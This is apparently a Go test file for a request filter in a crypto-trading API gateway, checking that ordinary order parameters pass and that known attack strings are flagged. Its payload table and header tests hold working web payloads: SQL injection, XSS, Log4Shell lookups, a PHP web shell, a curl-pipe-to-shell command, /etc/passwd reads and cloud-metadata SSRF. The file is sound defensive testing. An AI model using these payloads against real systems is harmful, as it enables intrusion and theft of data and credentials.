package payload

import (
	"encoding/base64"
	"net/url"
	"strings"
	"testing"

	"vedette/venue"
)

func query(value string) *venue.Request {
	return &venue.Request{Method: "GET", Path: "/api/v3/order", Query: "symbol=" + value + "&timestamp=1767614400000"}
}

func jsonBody(value string) *venue.Request {
	return &venue.Request{Method: "POST", Path: "/api/v5/trade/order", Body: []byte(`{"instId":"BTC-USDT","x":["` + value + `"],"px":1.5e3,"on":true,"n":null}`)}
}

// TestOrdinary: what trading is made of is not suspicious, in a query, a form, a path or JSON.
func TestOrdinary(t *testing.T) {
	f := &Filter{}
	for _, v := range []string{"", "BTCUSDT", "BTC-USDT", "BTC_USDT", "BTC/USDT", "BTC/USDT:USDT", "tBTCUSD", "XBT.F", "BTC-25DEC26-80000-C", "btcusdt@aggTrade", "!ticker@arr",
		"0.00012300", "-1", "1e-7", "1767614400000", "2026-01-05T12:00:00.123Z", "2026-01-05 12:00:00", "550e8400-e29b-41d4-a716-446655440000",
		"0x5f3a1b0c2d4e6f708192a3b4c5d6e7f801122334", "EXCHANGE LIMIT", "FILL_OR_KILL", "post_only", "spot_isolated", "book.BTC-PERPETUAL.100ms", "trade:1m:tBTCUSD",
		"/market/ticker:BTC-USDT,ETH-USDT", "market.btcusdt.kline.1min", "alice@example.com", "192.0.2.7", "2001:db8::7", "api.example.com", "my savings wallet", "x-web-1_2",
		"close[ordertype]", "0.01%", "+5%", "#1.5", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "MCowBQYDK2VwAyEAGb9ECWmEzf6FQbrBZ9w7lshQhqowtrbLDFw4rXAxZuE=",
		"eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl", "7xb++QN7PsXe+TbII8FqvzsjB801pv8IbQz/+229HPyPEDlZYRX0d4ap75vqGo9DCWju4RLg1BIXOlg/Z41HBw=="} {
		for place, r := range map[string]*venue.Request{"query": query(v), "escaped": query(url.QueryEscape(v)), "json": jsonBody(v),
			"form":   {Path: "/", Body: []byte("a=1&b=" + url.QueryEscape(v))},
			"header": {Path: "/", Header: venue.Header{{Name: "X-Client", Value: v}, {Name: "User-Agent", Value: "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"}}},
			"cookie": {Path: "/", Header: venue.Header{{Name: "Cookie", Value: "a=1; b=" + url.PathEscape(v)}}},
			"packed": {Path: "/", Header: venue.Header{{Name: "X-GEMINI-PAYLOAD", Value: base64.StdEncoding.EncodeToString([]byte(`{"symbol":"` + v + `"}`))}}},
			"path":   {Path: "/v1/x/" + url.PathEscape(strings.ReplaceAll(v, "/", "")) + "/status"}} {
			if place == "query" && strings.ContainsAny(v, "%&") || place == "cookie" && strings.Contains(v, "/") {
				continue
			}
			if f.Suspicious(r) {
				t.Errorf("%q is suspicious as %s", v, place)
			}
		}
	}
	for _, q := range []string{`symbols=%5B%22BTCUSDT%22,%22ETHUSDT%22%5D`, `symbols=["BTCUSDT","ETHUSDT"]`, `filter={"symbol":"XBTUSD","open":true}`,
		`batchOrders=` + url.QueryEscape(`[{"symbol":"BTCUSDT","price":"1.5","side":"BUY"}]`), "a=b&&c", "signature=" + strings.Repeat("%2B%2F", 40) + "%3D%3D"} {
		if r := (&venue.Request{Path: "/", Query: q}); f.Suspicious(r) {
			t.Errorf("%q is suspicious", q)
		}
	}
	if r := jsonBody(`{\"symbol\":\"BTCUSDT\",\"list\":[1,2]}`); f.Suspicious(r) {
		t.Error("JSON within JSON is suspicious")
	}
}

// TestFilterAllocs: neither what is read as it is nor what has to be decoded takes memory of its own.
func TestFilterAllocs(t *testing.T) {
	f := &Filter{}
	list := []*venue.Request{query("BTCUSDT"), query("%5B%22BTCUSDT%22%5D"), jsonBody(`a\/b`), jsonBody(`{\"a\":\"b\"}`), {Path: "/a%20b"},
		{Path: "/", Header: venue.Header{{Name: "X-GEMINI-PAYLOAD", Value: base64.StdEncoding.EncodeToString([]byte(`{"symbol":"btcusd"}`))}}}}
	n := testing.AllocsPerRun(100, func() {
		for _, r := range list {
			if f.Suspicious(r) {
				t.Errorf("%+v is suspicious", r)
			}
		}
	})
	if n != 0 {
		t.Errorf("%v allocations", n)
	}
}

// payloads are one or a few of each kind, as lists of such have them; none is from the rules' own tests. The last are what
// the rules do not find at level 1, though the filter passes them on.
var payloads = []struct {
	class, text string
	found       bool
}{
	{"sqli", `' OR '1'='1`, true}, {"sqli", `1 or 1=1`, true}, {"sqli", `admin'--`, true}, {"sqli", `1' UNION SELECT NULL,version()-- -`, true},
	{"sqli", `1; DROP TABLE orders`, true}, {"sqli", `1 AND SLEEP(5)`, true}, {"sqli", `1'; WAITFOR DELAY '0:0:5'--`, true}, {"sqli", `1/**/union/**/select/**/1`, true},
	{"sqli", `' AND extractvalue(1,concat(0x7e,version()))-- -`, true}, {"sqli", `" or ""="`, true}, {"sqli", `1 and ascii(substr((select database()),1,1))>64`, true},
	{"nosql", `{"$gt":""}`, true}, {"nosql", `'; return true; var x='`, true},
	{"xss", `<script>alert(1)</script>`, true}, {"xss", `"><img src=x onerror=alert(1)>`, true}, {"xss", `<svg/onload=alert(1)>`, true}, {"xss", `javascript:alert(document.cookie)`, true},
	{"rce", `; cat /etc/passwd`, true}, {"rce", `| id`, false}, {"rce", "`whoami`", true}, {"rce", `$(curl http://192.0.2.9/x|sh)`, true}, {"rce", `() { :;}; /bin/bash -c id`, true},
	{"rce", `&& ping -c 10 127.0.0.1`, true}, {"rce", `powershell -enc SQBFAFgA`, true},
	{"lfi", `../../../../etc/passwd`, true}, {"lfi", `..%2f..%2f..%2fetc%2fpasswd`, true}, {"lfi", `/proc/self/environ`, true}, {"lfi", `....//....//etc/passwd`, true}, {"lfi", `C:\Windows\win.ini`, true},
	{"rfi", `http://192.0.2.9/shell.txt?`, true}, {"ssrf", `http://169.254.169.254/latest/meta-data/`, true}, {"ssrf", `http://[::ffff:169.254.169.254]/`, true},
	{"ssrf", `gopher://127.0.0.1:6379/_INFO`, true}, {"ssrf", `file:///etc/shadow`, true}, {"java", `${jndi:ldap://192.0.2.9/a}`, true}, {"java", `${${lower:j}ndi:ldap://x/a}`, true},
	{"java", `%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}`, true}, {"java", `rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ`, false},
	{"php", `<?php system($_GET['c']); ?>`, true}, {"php", `php://filter/convert.base64-encode/resource=index`, true}, {"php", `O:8:"stdClass":0:{}`, true},
	{"ssti", `{{7*7}}`, false}, {"ssti", `{{config.__class__.__init__.__globals__['os'].popen('id').read()}}`, true}, {"ssti", `#{7*7}`, false},
	{"node", `require('child_process').exec('id')`, true}, {"node", `__proto__`, true}, {"ldap", `*)(uid=*))(|(uid=*`, true}, {"xxe", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>`, true},
	{"header", "x\r\nSet-Cookie: a=b", true},
}

// carriers are the ways in which a payload arrives.
func carriers(v string) map[string]*venue.Request {
	esc := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\r", `\r`, "\n", `\n`).Replace(v)
	return map[string]*venue.Request{"query": query(url.QueryEscape(v)), "form": {Path: "/", Body: []byte("symbol=" + url.QueryEscape(v))}, "json": jsonBody(esc),
		"message": {Kind: venue.Message, Body: []byte(`{"method":"order.place","params":{"symbol":"` + esc + `"}}`)},
		"nested":  query(url.QueryEscape(`[{"symbol":"` + esc + `"}]`)),
		"twice":   query(url.PathEscape(url.PathEscape(v))),
		"cookie":  {Path: "/", Header: venue.Header{{Name: "Cookie", Value: "s=" + url.PathEscape(v)}}},
		"packed":  {Path: "/", Header: venue.Header{{Name: "X-GEMINI-PAYLOAD", Value: base64.StdEncoding.EncodeToString([]byte(`{"symbol":"` + esc + `"}`))}}}}
}

// TestPayloads: each payload passes the filter in whatever way it comes, and the rules find it.
func TestPayloads(t *testing.T) {
	f, e := &Filter{}, New(Config{})
	found, all := map[string]int{}, 0
	for _, p := range payloads {
		for way, r := range carriers(p.text) {
			all++
			suspicious := f.Suspicious(r)
			if !suspicious && p.found {
				t.Errorf("%q is not suspicious in a %s", p.text, way)
			}
			got := suspicious && e.Examine(r, nil).Classes != 0
			if got {
				found[way]++
			}
			if got != p.found && way != "cookie" && way != "twice" {
				t.Errorf("%q in a %s: found %v", p.text, way, got)
			}
		}
	}
	t.Logf("%d payloads, found by way of arrival: %v of %d each", len(payloads), found, all/8)
}

func TestInPathAndHeader(t *testing.T) {
	f, e := &Filter{}, New(Config{})
	for _, r := range []*venue.Request{{Path: "/api/v1/../../etc/passwd"}, {Path: "/.git/config"}, {Path: "/api/%2e%2e/%2e%2e/etc/passwd"}, {Path: "/wp-config.php"},
		{Path: "/", Header: venue.Header{{Name: "User-Agent", Value: "${jndi:ldap://192.0.2.9/a}"}}}, {Path: "/", Header: venue.Header{{Name: "X-Api-Version", Value: "${jndi:ldap://192.0.2.9/a}"}}},
		{Path: "/", Header: venue.Header{{Name: "User-Agent", Value: "() { :; }; /bin/bash -c id"}}}} {
		if !f.Suspicious(r) {
			t.Errorf("%+v is not suspicious", r)
		}
		if found := e.Examine(r, nil); found.Classes == 0 {
			t.Errorf("nothing is found in %+v", r)
		}
	}
}

var sink bool

// BenchmarkFilter is what every call pays.
func BenchmarkFilter(b *testing.B) {
	header := venue.Header{{Name: "Host", Value: "api.binance.com"}, {Name: "User-Agent", Value: "ccxt/4.5.84 (+https://github.com/ccxt/ccxt) Node.js/22.1.0"}, {Name: "X-MBX-APIKEY", Value: strings.Repeat("aB3", 21)},
		{Name: "Content-Type", Value: "application/x-www-form-urlencoded"}, {Name: "Accept-Encoding", Value: "gzip, deflate"}, {Name: "Content-Length", Value: "210"}, {Name: "Connection", Value: "keep-alive"}}
	signed := "symbol=BTCUSDT&side=BUY&type=LIMIT&timeInForce=GTC&quantity=0.00100000&price=43250.10000000&newClientOrderId=x-desk-000123&recvWindow=5000&timestamp=1767614400000&signature=" + strings.Repeat("a1b2c3d4", 8)
	for name, r := range map[string]*venue.Request{"query of 10": {Path: "/api/v3/order", Query: signed}, "form of 10 with 7 fields": {Path: "/api/v3/order", Header: header, Body: []byte(signed)},
		"json of 8":            {Path: "/api/v5/trade/order", Body: []byte(`{"instId":"BTC-USDT","tdMode":"cash","side":"buy","ordType":"limit","px":"43250.1","sz":"0.001","clOrdId":"desk000123","tag":"abc"}`)},
		"json list in a query": {Path: "/api/v3/ticker", Query: "symbols=%5B%22BTCUSDT%22%2C%22ETHUSDT%22%5D"}} {
		b.Run(name, func(b *testing.B) {
			f := &Filter{}
			b.ReportAllocs()
			for b.Loop() {
				sink = f.Suspicious(r)
			}
			if sink {
				b.Error("suspicious")
			}
		})
	}
}

// BenchmarkExamine is what a suspicious call costs the examiner.
func BenchmarkExamine(b *testing.B) {
	e := New(Config{})
	e.rules()
	for name, v := range map[string]string{"free text": "my wallet & more", "sqli": "1' UNION SELECT NULL,version()-- -", "rce": "; cat /etc/passwd", "at the limit": strings.Repeat("<", 3*maxBytes)} {
		b.Run(name, func(b *testing.B) {
			r := query(url.QueryEscape(v))
			for b.Loop() {
				e.Examine(r, nil)
			}
		})
	}
	b.Run("compile", func(b *testing.B) {
		for b.Loop() {
			compile(1)
		}
	})
}
